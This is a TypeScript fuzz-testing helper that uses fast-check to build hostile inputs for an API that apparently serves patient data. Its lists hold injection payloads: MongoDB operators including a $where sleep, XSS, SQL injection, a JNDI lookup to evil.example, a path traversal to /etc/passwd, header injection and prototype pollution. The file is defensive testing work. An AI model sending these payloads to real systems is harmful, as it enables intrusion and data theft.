import fc from 'fast-check';

/**
 * Arbitraries of what a hostile client sends, for the fuzz suites: values that act as query
 * operators, strings, numbers and JSON of every wrong shape, bodies of an endpoint's shape or
 * none, query strings, and headers.
 */

/**
 * Values that reach MongoDB as query operators if anything passes them through unchecked. Each
 * draw is a fresh copy: a test that mutates the body it built (fuzz-admin's bundle mutations)
 * would otherwise write into the shared constant, and a later draw could even contain itself.
 */
export const operatorObject = fc
  .constantFrom<unknown>(
    { $ne: null },
    { $gt: '' },
    { $regex: '.*' },
    { $where: 'sleep(1000) || true' },
    { $in: [] },
    { $exists: true },
    { $expr: { $eq: [1, 1] } },
    { $function: { body: 'return true', args: [], lang: 'js' } },
  )
  .map((operator) => structuredClone(operator));

const printable = (text: string) => /^[\x20-\x7e]*$/.test(text);

export const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '',
      ' ',
      '\u0000',
      '\uFEFF',
      '\u202Eevil',
      '\uD800',
      'null',
      '{}',
      '[]',
      '<script>alert(1)</script>',
      "'; DROP TABLE patients; --",
      '${jndi:ldap://evil.example/a}',
      '../../../../etc/passwd',
      '%00%0d%0a',
      '\r\nX-Injected: 1',
      '$ne',
      '__proto__',
      'constructor',
      'Adam631_Cronin387_aff8f143-2375-416f-901d-b0e4c73e3e58',
      'Adam631_Cronin387_AFF8F143-2375-416F-901D-B0E4C73E3E58',
      '0b6f6e36-8a57-4c0b-9d7e-3f4d5c1e2a10',
      'MTc2ODQ4NzQyODEyMy42Nzg4ZjJhNGMxZDJlM2Y0YTViNmM3ZDg',
    ),
  },
  // Long and very long strings (the latter past the 1 MB body limit, some of them).
  { weight: 1, arbitrary: fc.integer({ min: 5_000, max: 6_000 }).map((n) => 'x'.repeat(n)) },
  { weight: 1, arbitrary: fc.integer({ min: 100_000, max: 1_200_000 }).map((n) => 'é'.repeat(n / 2)) },
);

export const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(0, -1, 1e308, -0, Number.MAX_SAFE_INTEGER + 2, 0.5),
);

/** Any JSON value, biased towards what breaks handlers: wrong types, operators, nesting, nulls. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    operatorObject,
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(
      fc.oneof(fc.string({ maxLength: 8 }), fc.constantFrom('$ne', '$gt', 'message', 'patient_id', 'role')),
      tie('value'),
      { maxKeys: 4 },
    ),
  ),
})).value;

/**
 * A JSON object whose known fields are each absent, valid or hostile, plus stray keys. `fields`
 * maps each field to arbitraries of valid values.
 */
export function bodyObject(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<Record<string, unknown>> {
  const entries = Object.entries(fields).map(([name, valid]) =>
    fc
      .option(fc.oneof({ weight: 2, arbitrary: valid }, { weight: 3, arbitrary: hostileValue }), {
        nil: undefined,
        freq: 4,
      })
      .map((value) => [name, value] as const),
  );
  const extras = fc.dictionary(
    fc.oneof(
      fc.string({ maxLength: 10 }),
      fc.constantFrom('role', 'isAdmin', 'roles', '$where', 'status', 'patient_id'),
    ),
    hostileValue,
    { maxKeys: 2 },
  );
  return fc.tuple(fc.tuple(...entries), fc.option(extras, { freq: 4, nil: undefined })).map(([pairs, extra]) => {
    const body: Record<string, unknown> = {};
    for (const [name, value] of pairs) if (value !== undefined) body[name] = value;
    if (extra)
      for (const [key, value] of Object.entries(extra))
        Object.defineProperty(body, key, { value, enumerable: true, writable: true, configurable: true });
    return body;
  });
}

/** Texts that are not a plain JSON object: malformed, truncated, prototype keys, deep nesting, other types. */
export const hostileBodyText = fc.oneof(
  fc.string({ maxLength: 60 }),
  fc.constantFrom(
    '',
    '{',
    '{"message":',
    '{"message":"unterminated',
    '{"a":1,}',
    "{'message':'single quotes'}",
    '{"message":"x"}{"message":"y"}',
    '{"message":"dup","message":{"$ne":null}}',
    'null',
    'true',
    '42',
    '"a string"',
    '[]',
    '[{"message":"in an array"}]',
    '{"__proto__":{"role":"admin","isAdmin":true}}',
    '{"message":"hi","__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"message":"hi","constructor":{"prototype":{"role":"admin"}}}',
    '{"patient_id":{"$ne":null}}',
    '{"message":{"$gt":""}}',
    '{"message":"\\ud800"}',
    '{"message":1e999}',
    '\uFEFF{"message":"bom"}',
  ),
  fc.integer({ min: 1_000, max: 200_000 }).map((depth) => `{"message":${'['.repeat(depth)}${']'.repeat(depth)}}`),
  fc.integer({ min: 1_000, max: 100_000 }).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
);

/** A body as sent: mostly a JSON-encoded object of the endpoint's shape, sometimes anything at all. */
export function bodyText(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 6, arbitrary: bodyObject(fields).map((body) => JSON.stringify(body)) },
    { weight: 2, arbitrary: hostileValue.map((value) => JSON.stringify(value) ?? 'null') },
    { weight: 2, arbitrary: hostileBodyText },
  );
}

/** Percent-encodes the UTF-8 bytes of any string, lone surrogates included (encodeURIComponent throws on those). */
export function percentEncode(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}

/** A query string built from the endpoint's parameters (valid or hostile), bracket operators and prototype keys. */
export function queryString(params: Record<string, fc.Arbitrary<string>>): fc.Arbitrary<string> {
  const names = Object.keys(params);
  const key = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...names) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        ...names.flatMap((name) => [`${name}[$ne]`, `${name}[$gt]`, `${name}[]`, `${name}[0]`]),
        '__proto__',
        '__proto__[role]',
        'constructor[prototype][isAdmin]',
        '$where',
        'role',
      ),
    },
    { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
  );
  const value = (name: string) =>
    fc.oneof(
      { weight: 3, arbitrary: Object.hasOwn(params, name) ? params[name]! : fc.string({ maxLength: 20 }) },
      { weight: 2, arbitrary: hostileString.filter((text) => text.length < 3000) },
    );
  const pair = key.chain((name) => value(name).map((text) => `${percentEncode(name)}=${percentEncode(text)}`));
  return fc.array(pair, { maxLength: 4 }).map((pairs) => (pairs.length === 0 ? '' : `?${pairs.join('&')}`));
}

/** Header values that Node's client will send (printable ASCII), from the plausible to the absurd. */
export const contentTypeHeader = fc.oneof(
  { weight: 6, arbitrary: fc.constant('application/json') },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8',
      'APPLICATION/JSON',
      'application/json; charset=utf-16',
      'application/json; charset=latin1',
      'application/json;;;',
      'application/json; charset="utf-8"',
      'application/problem+json',
      'application/vnd.api+json',
      'text/plain',
      'text/html',
      'application/xml',
      'application/x-www-form-urlencoded',
      'application/octet-stream',
      'multipart/form-data',
      'multipart/form-data; boundary=----fuzz',
      '*/*',
      'application/json, text/plain',
      '',
    ),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }).filter(printable) },
);

export const requestIdHeader = fc.oneof(
  fc.uuid(),
  fc.string({ maxLength: 200 }).filter(printable),
  fc.constant('a'.repeat(129)),
);

/** Extra headers a hostile client adds; never Authorization, Content-Type or Content-Length (chosen apart). */
export const extraHeaders = fc.record(
  {
    'x-request-id': requestIdHeader,
    accept: fc.constantFrom('*/*', 'text/event-stream', 'application/xml', 'application/json;q=0', 'garbage'),
    'x-forwarded-for': fc.constantFrom('1.2.3.4', '127.0.0.1, 10.0.0.1', 'not-an-ip', '::1', ''),
    origin: fc.constantFrom('https://evil.example', 'null', 'http://localhost:3000'),
    'content-encoding': fc.constantFrom('gzip', 'br', 'identity', 'x-unknown'),
    'accept-encoding': fc.constantFrom('gzip', 'br;q=1, *;q=0', 'identity'),
    cookie: fc.string({ maxLength: 60 }).filter(printable),
    'x-http-method-override': fc.constantFrom('DELETE', 'PUT', 'GET'),
  },
  { requiredKeys: [] },
);
